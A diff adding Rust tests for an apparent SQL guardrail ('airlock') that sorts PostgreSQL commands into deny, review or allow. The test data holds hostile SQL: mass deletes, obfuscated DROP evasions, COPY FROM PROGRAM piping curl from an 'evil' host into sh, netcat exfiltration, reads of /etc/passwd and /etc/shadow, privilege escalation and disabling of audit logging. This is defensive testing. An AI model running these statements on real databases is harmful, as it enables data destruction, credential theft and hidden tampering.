@@ -1,0 +1,477 @@
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing
+)]
+
+//! The default guardrail pack, end to end: real SQL through the real PostgreSQL parser and
+//! the real Cedar policies. Every category of PRODUCT.md's default pack — deny, review and
+//! allow — including evasions and look-alikes that must stay allowed.
+
+use airlock_model::{Command, Connection, ConnectionKind, Identity, Name, Protocol, Verdict};
+use airlock_policy::{Checkpoint, Policy};
+
+use Verdict::{Allow, Deny, Review};
+
+fn command(text: &str, env: &str) -> Command {
+    Command {
+        identity: Identity::human(Name::new("alice").unwrap()),
+        connection: Connection {
+            name: Name::new("main").unwrap(),
+            kind: ConnectionKind::Postgres,
+            environments: [Name::new(env).unwrap()].into(),
+        },
+        protocol: Protocol::DryRun,
+        text: text.to_owned(),
+    }
+}
+
+fn check(cases: &[(&str, Verdict)]) {
+    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
+    let mut failures = Vec::new();
+    for (sql, expected) in cases {
+        let decision = checkpoint.decide(&command(sql, "prod"));
+        if decision.verdict != *expected {
+            failures.push(format!(
+                "{sql:?}: expected {expected}, got {} ({})",
+                decision.verdict,
+                decision
+                    .rules
+                    .iter()
+                    .map(|r| r.rule.to_string())
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            ));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases failed:\n{}",
+        failures.len(),
+        cases.len(),
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn destroying_schema_or_data_wholesale_is_denied() {
+    check(&[
+        ("DROP TABLE users", Deny),
+        ("drop table if exists public.users cascade", Deny),
+        ("DROP SCHEMA app CASCADE", Deny),
+        ("DROP DATABASE prod", Deny),
+        ("DROP INDEX idx_users_email", Deny),
+        ("DROP VIEW v", Deny),
+        ("DROP FUNCTION f()", Deny),
+        ("DROP ROLE bob", Deny),
+        ("DROP OWNED BY bob CASCADE", Deny),
+        ("TRUNCATE users", Deny),
+        ("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", Deny),
+        ("DELETE FROM users", Deny),
+        ("UPDATE users SET active = false", Deny),
+        ("DELETE FROM users WHERE 1=1", Deny),
+        ("DELETE FROM users WHERE true", Deny),
+        ("DELETE FROM users WHERE 'a' = 'a'", Deny),
+        ("DELETE FROM users WHERE 2 > 1", Deny),
+        ("DELETE FROM users WHERE 1 + 1 = 2", Deny),
+        ("DELETE FROM users WHERE NOT false", Deny),
+        ("DELETE FROM users WHERE id = id", Deny),
+        ("UPDATE users SET x = 1 WHERE email = email", Deny),
+        ("DELETE FROM users WHERE id = 5 OR 1=1", Deny),
+        (
+            "DELETE FROM users WHERE deleted_at IS NULL OR deleted_at IS NOT NULL",
+            Deny,
+        ),
+        ("UPDATE users SET a = 1 WHERE age > 18 OR age <= 18", Deny),
+        ("DELETE FROM users WHERE active OR NOT active", Deny),
+        ("DELETE FROM users WHERE name LIKE '%'", Deny),
+        ("DELETE FROM users WHERE NULL IS NULL", Deny),
+        ("DELETE FROM users WHERE 1 IN (1, 2)", Deny),
+        ("DELETE FROM users WHERE '1'::int = 1", Deny),
+        ("DELETE FROM users WHERE id IN (SELECT id FROM users)", Deny),
+        ("DELETE FROM users WHERE EXISTS (SELECT 1)", Deny),
+        (
+            "DELETE FROM users u USING users u2 WHERE u.id = u2.id",
+            Deny,
+        ),
+        (
+            "UPDATE users SET a = 1 FROM users b WHERE users.id = b.id",
+            Deny,
+        ),
+        (
+            "MERGE INTO users t USING users s ON t.id = s.id WHEN MATCHED THEN DELETE",
+            Deny,
+        ),
+        ("ALTER TABLE users DROP COLUMN email", Deny),
+        ("ALTER TABLE users DROP COLUMN email CASCADE", Deny),
+    ]);
+}
+
+#[test]
+fn evasions_are_judged_by_effect() {
+    check(&[
+        ("DROP/**/TABLE users", Deny),
+        ("DROP/* a /* nested */ comment */TABLE users", Deny),
+        ("dRoP tAbLe users", Deny),
+        ("DROP TABLE \"Users\"", Deny),
+        ("SELECT 1; DROP TABLE users", Deny),
+        ("SELECT 1; DELETE FROM users; SELECT 2", Deny),
+        (
+            "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
+            Deny,
+        ),
+        (
+            "WITH x AS (UPDATE users SET a = 1 RETURNING id) SELECT * FROM x",
+            Deny,
+        ),
+        ("DELETE FROM users USING orders WHERE true", Deny),
+        ("EXPLAIN ANALYZE DELETE FROM users", Deny),
+        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1", Deny),
+        ("COPY (DELETE FROM users RETURNING *) TO STDOUT", Deny),
+        ("DO $$ BEGIN DROP TABLE users; END $$", Deny),
+        ("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", Deny),
+        (
+            "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE ' || 'users'; END $$",
+            Deny,
+        ),
+        (
+            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
+            Deny,
+        ),
+        (
+            "DO $$ BEGIN EXECUTE format('TRUNCATE %s', 'users'); END $$",
+            Deny,
+        ),
+        ("DO $$ BEGIN EXECUTE E'DROP\\x20TABLE users'; END $$", Deny),
+        (
+            "DO $$ BEGIN EXECUTE U&'DROP\\0020TABLE users'; END $$",
+            Deny,
+        ),
+        (
+            "DO $$ BEGIN EXECUTE chr(68)||chr(82)||chr(79)||chr(80)||' TABLE users'; END $$",
+            Deny,
+        ),
+        (
+            "DO $$ DECLARE q text := 'TRUNCATE users'; BEGIN EXECUTE q; END $$",
+            Deny,
+        ),
+        (
+            "DO $body$ BEGIN EXECUTE $q$DELETE FROM users$q$; END $body$",
+            Deny,
+        ),
+        (
+            "DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSB1c2Vycw==', 'base64'), 'UTF8'); END $$",
+            Deny,
+        ),
+        (
+            "DO LANGUAGE plpgsql $$ BEGIN IF true THEN DELETE FROM users; END IF; END $$",
+            Deny,
+        ),
+        (
+            "SELECT query_to_xml('DELETE FROM users', true, true, '')",
+            Deny,
+        ),
+        ("PREPARE p AS DELETE FROM users; EXECUTE p", Deny),
+        (
+            "CREATE TABLE t2 AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
+            Deny,
+        ),
+    ]);
+}
+
+#[test]
+fn server_files_programs_and_remote_hosts_are_denied() {
+    check(&[
+        ("COPY users FROM PROGRAM 'curl http://evil/x | sh'", Deny),
+        ("COPY users TO PROGRAM 'nc evil 9000'", Deny),
+        ("COPY (SELECT * FROM users) TO '/tmp/users.csv'", Deny),
+        ("COPY users FROM '/etc/passwd'", Deny),
+        ("SELECT pg_read_file('/etc/passwd')", Deny),
+        (
+            "SELECT pg_catalog.pg_read_binary_file('/var/lib/postgresql/.pgpass')",
+            Deny,
+        ),
+        ("SELECT * FROM pg_ls_dir('/')", Deny),
+        ("SELECT lo_import('/etc/shadow')", Deny),
+        ("SELECT lo_export(1234, '/tmp/x')", Deny),
+        ("SELECT dblink_connect('host=10.0.0.1 user=postgres')", Deny),
+        (
+            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
+            Deny,
+        ),
+        (
+            "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')",
+            Deny,
+        ),
+        (
+            "SELECT id FROM users WHERE id = (SELECT length(pg_read_file('/etc/passwd')))",
+            Deny,
+        ),
+        ("LOAD '/tmp/evil.so'", Deny),
+        (
+            "CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS 'import os'",
+            Deny,
+        ),
+    ]);
+}
+
+#[test]
+fn privilege_escalation_is_denied() {
+    check(&[
+        ("ALTER ROLE bob SUPERUSER", Deny),
+        ("ALTER USER bob WITH SUPERUSER", Deny),
+        ("CREATE ROLE admin2 SUPERUSER LOGIN", Deny),
+        ("GRANT pg_execute_server_program TO bob", Deny),
+        ("GRANT pg_read_server_files TO bob", Deny),
+        ("GRANT pg_write_server_files TO bob", Deny),
+        ("GRANT postgres TO bob", Deny),
+        (
+            "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'bob'",
+            Deny,
+        ),
+        (
+            "INSERT INTO pg_catalog.pg_authid SELECT * FROM pg_authid",
+            Deny,
+        ),
+    ]);
+}
+
+#[test]
+fn disabling_audit_relevant_behaviour_is_denied() {
+    check(&[
+        ("SET session_replication_role = replica", Deny),
+        ("SET LOCAL session_replication_role TO 'replica'", Deny),
+        (
+            "SELECT set_config('session_replication_role', 'replica', false)",
+            Deny,
+        ),
+        ("ALTER SYSTEM SET log_statement = 'none'", Deny),
+        ("ALTER SYSTEM RESET ALL", Deny),
+        ("SET log_statement = 'none'", Deny),
+        (
+            "SELECT set_config('log_min_duration_statement', '-1', false)",
+            Deny,
+        ),
+        ("ALTER TABLE users DISABLE TRIGGER ALL", Deny),
+        ("ALTER TABLE audit DISABLE TRIGGER audit_trg", Deny),
+        ("ALTER TABLE users DISABLE ROW LEVEL SECURITY", Deny),
+        ("ALTER EVENT TRIGGER guard DISABLE", Deny),
+        (
+            "CREATE RULE r AS ON DELETE TO users DO INSTEAD NOTHING",
+            Deny,
+        ),
+        (
+            "CREATE RULE r AS ON INSERT TO audit_log DO INSTEAD NOTHING",
+            Deny,
+        ),
+        ("ALTER DATABASE prod SET log_statement = 'none'", Deny),
+    ]);
+}
+
+#[test]
+fn deferred_bombs_are_denied() {
+    check(&[
+        (
+            "CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM users",
+            Deny,
+        ),
+        (
+            "CREATE OR REPLACE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN NULL; END $$",
+            Deny,
+        ),
+        (
+            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE users'",
+            Deny,
+        ),
+        (
+            "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END",
+            Deny,
+        ),
+        (
+            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
+            Deny,
+        ),
+    ]);
+}
+
+#[test]
+fn unknowable_or_privileged_changes_need_review() {
+    check(&[
+        ("DO $$ BEGIN EXECUTE 'DELETE FROM ' || tbl; END $$", Review),
+        (
+            "DO $$ DECLARE t text; BEGIN SELECT name INTO t FROM cfg; EXECUTE 'DROP TABLE ' || t; END $$",
+            Review,
+        ),
+        (
+            "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'",
+            Review,
+        ),
+        ("SELECT my_cleanup_function(42)", Review),
+        ("CALL archive_orders()", Review),
+        ("EXECUTE stmt1(42)", Review),
+        ("CREATE TABLE t (id int)", Review),
+        ("ALTER TABLE users ADD COLUMN nickname text", Review),
+        ("CREATE INDEX idx ON users (email)", Review),
+        (
+            "CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()",
+            Review,
+        ),
+        ("GRANT SELECT ON users TO bob", Review),
+        ("REVOKE ALL ON users FROM bob", Review),
+        ("CREATE ROLE bob LOGIN", Review),
+        ("ALTER ROLE bob CREATEDB", Review),
+        ("COPY users TO STDOUT", Review),
+        ("COPY (SELECT * FROM users) TO STDOUT WITH CSV", Review),
+        ("SELECT * FROM users", Review),
+        ("SELECT * FROM public.customers WHERE 1 = 1", Review),
+        ("SELECT json_agg(u) FROM users u", Review),
+    ]);
+}
+
+#[test]
+fn ordinary_work_and_look_alikes_are_allowed() {
+    check(&[
+        (
+            "SELECT abalance FROM pgbench_accounts WHERE aid = 42",
+            Allow,
+        ),
+        ("SELECT * FROM users WHERE id = 5", Allow),
+        ("SELECT * FROM users LIMIT 10", Allow),
+        (
+            "SELECT * FROM users ORDER BY id FETCH FIRST 5 ROWS ONLY",
+            Allow,
+        ),
+        ("SELECT count(*) FROM users", Allow),
+        ("SELECT status, count(*) FROM orders GROUP BY status", Allow),
+        ("SELECT id, email FROM users", Allow),
+        ("UPDATE users SET name = 'x' WHERE id = 5", Allow),
+        ("DELETE FROM sessions WHERE expires_at < now()", Allow),
+        (
+            "DELETE FROM users WHERE id IN (SELECT user_id FROM bans)",
+            Allow,
+        ),
+        ("INSERT INTO users (id, name) VALUES (1, 'a')", Allow),
+        ("INSERT INTO t SELECT * FROM s WHERE id > 10", Allow),
+        ("BEGIN", Allow),
+        ("COMMIT", Allow),
+        ("ROLLBACK", Allow),
+        (
+            "BEGIN; UPDATE accounts SET balance = balance - 1 WHERE id = 1; COMMIT",
+            Allow,
+        ),
+        ("EXPLAIN DELETE FROM users", Allow),
+        ("EXPLAIN SELECT * FROM users", Allow),
+        ("SHOW search_path", Allow),
+        ("SET search_path = app, public", Allow),
+        ("SET statement_timeout = '5s'", Allow),
+        ("SET application_name = 'psql'", Allow),
+        ("SELECT 'DROP TABLE users'", Allow),
+        (
+            "SELECT 'DROP TABLE users' AS warning FROM users WHERE id = 1",
+            Allow,
+        ),
+        ("SELECT 1 -- DROP TABLE users", Allow),
+        ("SELECT /* DELETE FROM users */ 1", Allow),
+        ("SELECT $$DROP TABLE users$$", Allow),
+        ("SELECT $tag$ TRUNCATE users $tag$", Allow),
+        ("SELECT * FROM drop_log WHERE id = 1", Allow),
+        ("SELECT deleted_at FROM users WHERE id = 2", Allow),
+        (
+            "INSERT INTO drop_log (msg) VALUES ('DROP TABLE users')",
+            Allow,
+        ),
+        ("UPDATE truncate_jobs SET done = true WHERE id = 3", Allow),
+        ("SELECT now()", Allow),
+        ("SELECT lower(email) FROM users WHERE id = 1", Allow),
+        ("SELECT * FROM pg_stat_activity", Allow),
+        ("SELECT relname FROM pg_class", Allow),
+        ("COPY users FROM STDIN", Allow),
+        ("", Allow),
+        ("-- just a comment", Allow),
+    ]);
+}
+
+#[test]
+fn unparseable_input_is_denied() {
+    check(&[
+        ("DROP TABLE", Deny),
+        ("SELEC * FROM users", Deny),
+        ("SELECT 'unterminated", Deny),
+        ("SELECT 1\0; DROP TABLE users", Deny),
+    ]);
+}
+
+#[test]
+fn review_rules_do_not_apply_outside_prod_but_deny_rules_do() {
+    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
+    assert_eq!(
+        checkpoint
+            .decide(&command("CREATE TABLE t (id int)", "dev"))
+            .verdict,
+        Allow
+    );
+    assert_eq!(
+        checkpoint
+            .decide(&command("SELECT * FROM users", "dev"))
+            .verdict,
+        Allow
+    );
+    assert_eq!(
+        checkpoint
+            .decide(&command("DROP TABLE users", "dev"))
+            .verdict,
+        Deny
+    );
+    assert_eq!(
+        checkpoint
+            .decide(&command("CREATE TABLE t (id int)", "prod"))
+            .verdict,
+        Review
+    );
+}
+
+#[test]
+fn cache_never_shares_a_decision_across_literal_dependent_shapes() {
+    let mut checkpoint = Checkpoint::new(Policy::default_pack().unwrap());
+    let decide = |c: &mut Checkpoint, sql: &str| c.decide(&command(sql, "prod")).verdict;
+    assert_eq!(
+        decide(&mut checkpoint, "DELETE FROM users WHERE 1 = 2"),
+        Allow
+    );
+    assert_eq!(
+        decide(&mut checkpoint, "DELETE FROM users WHERE 1 = 1"),
+        Deny
+    );
+    assert_eq!(
+        decide(&mut checkpoint, "SELECT * FROM users LIMIT 5"),
+        Allow
+    );
+    assert_eq!(
+        decide(&mut checkpoint, "SELECT * FROM users LIMIT ALL"),
+        Review
+    );
+    assert_eq!(
+        decide(&mut checkpoint, "DELETE FROM users WHERE name LIKE 'a%'"),
+        Allow
+    );
+    assert_eq!(
+        decide(&mut checkpoint, "DELETE FROM users WHERE name LIKE '%'"),
+        Deny
+    );
+    // Same shape, other literal: served from the fingerprint cache, same decision.
+    assert_eq!(
+        decide(
+            &mut checkpoint,
+            "SELECT abalance FROM pgbench_accounts WHERE aid = 1"
+        ),
+        Allow
+    );
+    assert_eq!(
+        decide(
+            &mut checkpoint,
+            "SELECT abalance FROM pgbench_accounts WHERE aid = 2"
+        ),
+        Allow
+    );
+}
